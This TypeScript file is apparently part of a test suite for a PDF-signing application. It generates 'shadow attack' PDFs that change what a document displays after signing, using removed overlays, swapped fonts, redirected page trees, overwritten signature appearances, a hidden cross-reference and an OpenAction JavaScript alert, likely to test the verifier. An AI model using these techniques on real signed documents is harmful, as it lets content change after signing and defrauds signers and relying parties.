import { addSignatureFields, withEntry } from '../../../electron/backend/signing/add-signature-fields.ts';
import { readSignatureFields } from '../../../electron/backend/signing/pdf/signature-fields.ts';
import {
  isKind,
  need,
  pdfArray,
  pdfDict,
  pdfName,
  pdfText,
  pdfRef,
  type PdfRef,
} from '../../../electron/backend/signing/pdf/pdf-value.ts';
import { makeReport } from '../signing/make-report.ts';
import { signAs } from '../signing/three-signers.ts';
import { append, firstPage, overlay, type Attack, type Material } from './attack.ts';

const field = 'ketua';

/** A file built to change its face later: prepared by the attacker, signed in good faith, then completed. */
export async function shadow(material: Material): Promise<Attack[]> {
  const sign = async (base: Uint8Array): Promise<Uint8Array> => {
    const prepared = addSignatureFields(base, [{ id: field, label: 'Ketua' }], { paper: 'A4' });
    return signAs(prepared, field, material.insider, material.at);
  };
  const base = await makeReport();
  const plain = await sign(base);
  return [
    await hide(base, sign),
    await dangling(base, sign),
    replaceFont(plain),
    await replaceVersion(base, sign),
    await sharedArray(base, sign),
    await growingStream(base, sign),
    appearanceOfSigned(plain),
    await indirectAppearance(base, sign),
    otherXrefForm(plain),
    await script(base, sign),
    fieldWithAction(plain),
  ];
}

type Sign = (base: Uint8Array) => Promise<Uint8Array>;

/** An image covers the text while people sign, and is taken away afterwards. */
async function hide(base: Uint8Array, sign: Sign): Promise<Attack> {
  let cover = pdfRef(0);
  const shown = append(base, (file, changes) => {
    const page = firstPage(file);
    cover = changes.add(overlay());
    const old = page.dict.entries.get('Contents') ?? null;
    changes.set(page.ref, withEntry(page.dict, 'Contents', pdfArray([old, cover])));
  });
  const signed = await sign(shown);
  const pdf = append(signed, (_file, changes) =>
    changes.set(cover, { kind: 'stream', dict: pdfDict({}), raw: Buffer.from(' ') }),
  );
  return { family: 'shadow', name: 'a cover is taken away', pdf };
}

/** Content refers to an object that does not exist until after the signature. */
async function dangling(base: Uint8Array, sign: Sign): Promise<Attack> {
  const missing = pdfRef(500);
  const shown = append(base, (file, changes) => {
    const page = firstPage(file);
    const old = page.dict.entries.get('Contents') ?? null;
    changes.set(page.ref, withEntry(page.dict, 'Contents', pdfArray([old, missing])));
  });
  const signed = await sign(shown);
  const pdf = append(signed, (_file, changes) => changes.set(missing, overlay()));
  return { family: 'shadow', name: 'a missing object appears', pdf };
}

/** The font of the text is exchanged, so that the same codes show other letters. */
function replaceFont(signed: Uint8Array): Attack {
  const pdf = append(signed, (file, changes) => {
    const view = file.view();
    for (const num of view.numbers()) {
      const value = view.object(pdfRef(num));
      const isFontFile = isKind(value, 'stream') && value.dict.entries.has('Length1');
      if (isFontFile)
        changes.set(pdfRef(num), { kind: 'stream', dict: pdfDict({ Length1: 4 }), raw: Buffer.from('evil') });
    }
    if (changes.objects.size === 0)
      changes.set(firstPage(file).ref, withEntry(firstPage(file).dict, 'Resources', pdfDict({})));
  });
  return { family: 'shadow', name: 'a font is exchanged', pdf };
}

/** A whole second document waits unseen; afterwards the catalogue points at it. */
async function replaceVersion(base: Uint8Array, sign: Sign): Promise<Attack> {
  let other: PdfRef = pdfRef(0);
  const shown = append(base, (file, changes) => {
    const page = firstPage(file);
    const parent = page.dict.entries.get('Parent') ?? null;
    const fresh = changes.add(withEntry(withEntry(page.dict, 'Contents', changes.add(overlay())), 'Parent', parent));
    other = changes.add(pdfDict({ Type: pdfName('Pages'), Kids: pdfArray([fresh]), Count: 1 }));
  });
  const signed = await sign(shown);
  const pdf = append(signed, (file, changes) => {
    const root = need(file.view().trailer.entries.get('Root'), 'ref', 'Root');
    changes.set(root, withEntry(file.view().root, 'Pages', other));
  });
  return { family: 'shadow', name: 'the catalogue turns to other pages', pdf };
}

/** The list of the form's fields is also the list of a page's contents. */
async function sharedArray(base: Uint8Array, sign: Sign): Promise<Attack> {
  const signed = await sign(base);
  const pdf = append(signed, (file, changes) => {
    const view = file.view();
    const form = need(view.root.entries.get('AcroForm'), 'ref', 'AcroForm');
    const dict = view.resolveDict(form, 'AcroForm');
    const fields = need(view.resolve(dict.entries.get('Fields')), 'array', 'Fields');
    changes.set(form, withEntry(dict, 'Fields', pdfArray([...fields.items, changes.add(overlay())])));
  });
  return { family: 'shadow', name: 'the form gains a thing that is no field', pdf };
}

/** A stream says it is longer than the file, and is completed later. */
async function growingStream(base: Uint8Array, sign: Sign): Promise<Attack> {
  let length: PdfRef = pdfRef(0);
  const shown = append(base, (file, changes) => {
    const page = firstPage(file);
    length = changes.add(3);
    const stream = { kind: 'stream' as const, dict: pdfDict({}), raw: Buffer.from('q Q') };
    changes.set(
      page.ref,
      withEntry(page.dict, 'Contents', pdfArray([page.dict.entries.get('Contents') ?? null, changes.add(stream)])),
    );
  });
  const signed = await sign(shown);
  const pdf = append(signed, (_file, changes) => changes.set(length, 400));
  return { family: 'shadow', name: 'a length grows', pdf };
}

/** The look of a signature that was given is drawn anew. */
function appearanceOfSigned(signed: Uint8Array): Attack {
  const pdf = append(signed, (file, changes) => {
    const [first] = readSignatureFields(file.view());
    const form = changes.add({
      kind: 'stream',
      dict: pdfDict({ Subtype: pdfName('Form'), BBox: pdfArray([0, 0, 100, 100]) }),
      raw: Buffer.from('0 0 100 100 re f'),
    });
    if (first) changes.set(first.ref, withEntry(first.dict, 'AP', pdfDict({ N: form })));
  });
  return { family: 'shadow', name: 'a given signature gets another look', pdf };
}

/** The appearance object of the next signer's field is also a page's content. */
async function indirectAppearance(base: Uint8Array, sign: Sign): Promise<Attack> {
  const signed = await sign(base);
  const pdf = append(signed, (file, changes) => {
    const [first] = readSignatureFields(file.view());
    const look = first ? need(first.dict.entries.get('AP'), 'dict', 'AP').entries.get('N') : undefined;
    if (isKind(look, 'ref'))
      changes.set(look, {
        kind: 'stream',
        dict: pdfDict({ Subtype: pdfName('Form'), BBox: pdfArray([0, 0, 9, 9]) }),
        raw: Buffer.from('0 0 9 9 re f'),
      });
  });
  return { family: 'shadow', name: 'the drawing of a signature is overwritten', pdf };
}

/** The save that is appended refers to a hidden cross-reference stream as well. */
function otherXrefForm(signed: Uint8Array): Attack {
  const honest = append(signed, (_file, changes) => {
    changes.add(overlay());
  });
  const text = Buffer.from(honest).toString('latin1');
  const at = text.lastIndexOf('/Prev');
  const pdf = Buffer.from(`${text.slice(0, at)}/XRefStm 20 ${text.slice(at)}`, 'latin1');
  return { family: 'shadow', name: 'a second cross-reference in one save', pdf: new Uint8Array(pdf) };
}

/** A script that runs when the file is opened, there before anyone signs. */
async function script(base: Uint8Array, sign: Sign): Promise<Attack> {
  const scripted = append(base, (file, changes) => {
    const root = need(file.view().trailer.entries.get('Root'), 'ref', 'Root');
    const action = pdfDict({ S: pdfName('JavaScript'), JS: pdfText('app.alert(1)') });
    changes.set(root, withEntry(file.view().root, 'OpenAction', action));
  });
  return { family: 'shadow', name: 'a script from before the signature', staysOpen: true, pdf: await sign(scripted) };
}

/** A timestamp's field without size, but with an action for when its page is opened. */
function fieldWithAction(signed: Uint8Array): Attack {
  const pdf = append(signed, (file, changes) => {
    const view = file.view();
    const action = pdfDict({ PO: pdfDict({ S: pdfName('JavaScript'), JS: pdfText('app.alert(1)') }) });
    const stamp = changes.add(pdfDict({ Type: pdfName('DocTimeStamp'), SubFilter: pdfName('ETSI.RFC3161') }));
    const widget = {
      Type: pdfName('Annot'),
      Subtype: pdfName('Widget'),
      FT: pdfName('Sig'),
      Rect: pdfArray([0, 0, 0, 0]),
    };
    const field = changes.add(pdfDict({ ...widget, T: pdfText('waktu'), V: stamp, AA: action }));
    const form = need(view.root.entries.get('AcroForm'), 'ref', 'AcroForm');
    const dict = view.resolveDict(form, 'AcroForm');
    const fields = need(view.resolve(dict.entries.get('Fields')), 'array', 'Fields');
    changes.set(form, withEntry(dict, 'Fields', pdfArray([...fields.items, field])));
  });
  return { family: 'shadow', name: 'a timestamp with an action', pdf };
}
